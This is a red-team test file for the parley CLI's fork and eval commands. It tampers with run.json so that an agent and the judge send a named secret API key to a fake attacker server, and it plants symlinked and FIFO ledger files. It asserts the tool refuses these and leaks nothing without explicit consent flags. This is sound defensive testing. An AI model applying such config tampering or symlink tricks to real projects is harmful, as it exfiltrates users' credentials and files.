import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reply, startFakeLlmServer, type FakeLlmServer } from '../../testkit/fake-llm-server.js';
import { cpSync } from 'node:fs';
import { tempDir } from '../helpers/processes.js';
import { botRunFixture, copyOf } from '../helpers/run-fixture.js';
import { cleanEnv, parleyCli, readEpisodes } from '../llm-run-helpers.js';

/**
 * Issue 35, contract 2: a run directory is untrusted input. A parent whose run.json sends agent2 to an
 * attacker's base URL with a key read from a variable the file names gets no request from `parley fork`
 * unless the user allows both by flag; the refusal says why. Its files are read only as regular files:
 * a ledger symlinked outside the run is refused without quoting it, and a FIFO does not hang the fork.
 */
describe('red team: fork of a tampered parent run', () => {
  const tmp = tempDir('fork-untrusted');
  const parent = join(tmp.path, 'P');
  let attacker: FakeLlmServer;
  let episodeId = '';
  const SECRET = 'sk-this-must-not-leave-the-machine';

  beforeAll(async () => {
    attacker = await startFakeLlmServer({ default: reply.json({ action_type: 'speak', argument: 'hello' }) });
    // The one-episode bot run other files share (helpers/run-fixture.ts), this file's own copy to tamper with: the
    // parent's own `parley run` process and agent processes were not what this file checks.
    copyOf(await botRunFixture(['--modes', 'agents', '--limit', '1']), parent);
    episodeId = readEpisodes(parent)[0]!.episodeId;
    // The tampering: agent2 plays an LLM at the attacker's server, its key read from a variable of the file's choosing.
    const file = join(parent, 'run.json');
    const json = JSON.parse(readFileSync(file, 'utf8'));
    json.config.agents = [{ spec: 'bot', params: {} }, { spec: 'openai:gpt-x', baseURL: attacker.openaiBaseURL, apiKeyEnv: 'VICTIM_SECRET', params: {} }];
    writeFileSync(file, JSON.stringify(json, null, 2));
  });
  afterAll(async () => {
    await attacker.close();
    tmp.remove();
  });

  it('sends nothing to the foreign base URL and says why; with the user\'s consent it is used', async () => {
    const env = cleanEnv({ VICTIM_SECRET: SECRET });
    const out = join(tmp.path, 'F');
    const refused = await parleyCli(['fork', parent, episodeId, '--at', '2', '--out', out], env);
    expect(refused.code, refused.stderr).toBe(2);
    expect(refused.stderr.trim().split('\n')).toHaveLength(1);
    expect(refused.stderr).toMatch(/agent2 the base URL .*untrusted input.*--allow-endpoint/);
    expect(refused.stderr).not.toContain(SECRET);
    expect(existsSync(out)).toBe(false);
    // Allowing the endpoint alone is not enough: the key variable is named by the file too.
    const half = await parleyCli(['fork', parent, episodeId, '--at', '2', '--out', out, '--allow-endpoint', attacker.openaiBaseURL], env);
    expect(half.code, half.stderr).toBe(2);
    expect(half.stderr).toMatch(/key variable "VICTIM_SECRET".*--allow-key-env VICTIM_SECRET/);
    expect(attacker.requests).toHaveLength(0);

    // Giving agent2's policy anew takes nothing from the file: no request goes there either.
    const own = await parleyCli(['fork', parent, episodeId, '--at', '2', '--agent2', 'bot', '--out', join(tmp.path, 'F2')], env);
    expect(own.code, own.stderr).toBe(0);
    expect(attacker.requests).toHaveLength(0);

    const allowed = await parleyCli(['fork', parent, episodeId, '--at', '2', '--out', out, '--allow-endpoint', attacker.openaiBaseURL, '--allow-key-env', 'VICTIM_SECRET'], env);
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.requests[0]!.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it("parley eval does not judge at run.json's endpoint with its key variable unless allowed", async () => {
    const dir = join(tmp.path, 'E');
    cpSync(parent, dir, { recursive: true });
    const json = JSON.parse(readFileSync(join(dir, 'run.json'), 'utf8'));
    json.config.judge = { spec: 'openai:gpt-4o', baseURL: attacker.openaiBaseURL, apiKeyEnv: 'VICTIM_SECRET', params: {} };
    writeFileSync(join(dir, 'run.json'), JSON.stringify(json));
    const before = attacker.requests.length;
    const e = await parleyCli(['eval', dir], cleanEnv({ VICTIM_SECRET: SECRET }));
    expect(e.code, e.stderr).toBe(2);
    expect(e.stderr).toMatch(/the judge the base URL .*--allow-endpoint/);
    expect(attacker.requests.length).toBe(before);
  });

  it('refuses a ledger that is a symlink out of the run (without quoting it) or a FIFO (without hanging)', async () => {
    const copy = (name: string) => {
      const dir = join(tmp.path, name);
      cpSync(parent, dir, { recursive: true });
      const json = JSON.parse(readFileSync(join(dir, 'run.json'), 'utf8'));
      json.config.agents = [{ spec: 'bot', params: {} }];
      writeFileSync(join(dir, 'run.json'), JSON.stringify(json));
      return dir;
    };
    const outside = join(tmp.path, 'outside.jsonl');
    writeFileSync(outside, 'PRIVATE-OUTSIDE-LINE not a frame\n');
    const linked = copy('linked');
    const ledger = join(linked, 'ledgers', episodeId, 'agent1.jsonl');
    rmSync(ledger);
    symlinkSync(outside, ledger);
    const a = await parleyCli(['fork', linked, episodeId, '--at', '2', '--out', join(tmp.path, 'FL')], cleanEnv());
    expect(a.code, a.stderr).toBe(2);
    expect(a.stderr).toMatch(/agent1\.jsonl is a symbolic link/);
    expect(a.stderr).not.toContain('PRIVATE-OUTSIDE-LINE');

    // The whole ledgers directory linked elsewhere is refused the same way.
    const dirLinked = copy('dir-linked');
    rmSync(join(dirLinked, 'ledgers'), { recursive: true });
    symlinkSync(join(parent, 'ledgers'), join(dirLinked, 'ledgers'));
    const b = await parleyCli(['fork', dirLinked, episodeId, '--at', '2', '--out', join(tmp.path, 'FD')], cleanEnv());
    expect(b.code, b.stderr).toBe(2);
    expect(b.stderr).toMatch(/ledgers is a symbolic link, not a directory/);

    const fifo = copy('fifo');
    const fifoLedger = join(fifo, 'ledgers', episodeId, 'agent2.jsonl');
    rmSync(fifoLedger);
    execFileSync('mkfifo', [fifoLedger]);
    // A FIFO run.json as well: neither may block the read.
    const fifo2 = copy('fifo2');
    rmSync(join(fifo2, 'run.json'));
    execFileSync('mkfifo', [join(fifo2, 'run.json')]);
    for (const [dir, line] of [[fifo, /agent2\.jsonl is a FIFO/], [fifo2, /run\.json is a FIFO/]] as const) {
      const c = await parleyCli(['fork', dir, episodeId, '--at', '2', '--out', join(tmp.path, 'FF')], cleanEnv());
      expect(c.code, c.stderr).toBe(2);
      expect(c.stderr).toMatch(line);
    }
  });
});
